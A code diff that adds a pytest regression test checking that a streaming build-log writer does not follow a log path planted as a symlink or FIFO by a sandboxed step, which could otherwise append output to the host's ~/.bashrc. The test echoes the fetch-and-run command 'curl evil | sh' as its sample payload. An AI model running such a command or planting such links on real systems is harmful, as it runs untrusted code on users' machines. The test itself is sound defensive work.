@@ -248,3 +248,25 @@ def test_run_streaming_cuts_a_huge_line_and_keeps_the_rest(tmp_path: Path) -> No
     assert log.stat().st_size < 2 * STREAM_LINE_MAX
     assert max(seen) < STREAM_LINE_MAX + 100 and len(seen) == 2
     assert peak < 16 * STREAM_LINE_MAX, peak
+
+
+@pytest.mark.parametrize("planted", ["link", "dangling link", "fifo"])
+def test_run_streaming_never_writes_through_what_was_planted_as_its_log(tmp_path: Path, planted: str) -> None:
+    """A rebuild's sandboxed configure step can write its work folder: it made build.log a
+    link to a file of the host (``~/.bashrc``), and the next step's output was appended
+    there by patchkit, outside the sandbox. Now the log is a new file in its place."""
+    target = tmp_path / "bashrc"
+    target.write_text("# the user's\n")
+    log = tmp_path / "work" / "build.log"
+    log.parent.mkdir()
+    if planted == "link":
+        log.symlink_to(target)
+    elif planted == "dangling link":
+        log.symlink_to(tmp_path / "made-through-the-link")
+    else:
+        os.mkfifo(log)
+    rc = run_streaming(["sh", "-c", "echo 'curl evil | sh'"], log_path=log)
+    assert rc == 0
+    assert target.read_text() == "# the user's\n"
+    assert not (tmp_path / "made-through-the-link").exists()
+    assert not log.is_symlink() and log.is_file() and "curl evil | sh" in log.read_text()
